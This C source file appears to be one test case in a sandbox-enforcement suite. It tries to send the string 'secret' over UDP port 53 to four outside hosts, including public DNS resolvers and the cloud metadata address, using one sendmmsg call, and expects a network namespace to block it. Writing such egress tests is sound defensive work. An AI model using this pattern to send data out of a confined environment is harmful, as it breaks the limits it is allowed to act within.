/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to: send datagrams to many addresses with one call
 * Promise:  no-network
 * Oracle:   network
 * Stops:    ENETUNREACH=namespace
 * Not promised: process=process-network
 */
#include <arpa/inet.h>
#include <sys/socket.h>

#include "attacks/attack.h"

#define N 4

ATTACK(send_many_at_once)
{
	static const uint32_t hosts[N] = {0x01010101, 0x08080808, 0xa9fea9fe, 0x0a000001};
	struct iovec data = {.iov_base = (char[]){"secret"}, .iov_len = 6};
	struct sockaddr_in to[N];
	struct mmsghdr messages[N] = {0};
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	for (size_t i = 0; i < N; i++) {
		to[i] = (struct sockaddr_in){.sin_family = AF_INET,
		                             .sin_port = htons(53),
		                             .sin_addr.s_addr = htonl(hosts[i])};
		messages[i].msg_hdr = (struct msghdr){.msg_name = &to[i],
		                                      .msg_namelen = sizeof(to[i]),
		                                      .msg_iov = &data,
		                                      .msg_iovlen = 1};
	}
	if (sendmmsg(s, messages, N, 0) < 0)
		attack_stopped("sendmmsg");
	return 0;
}
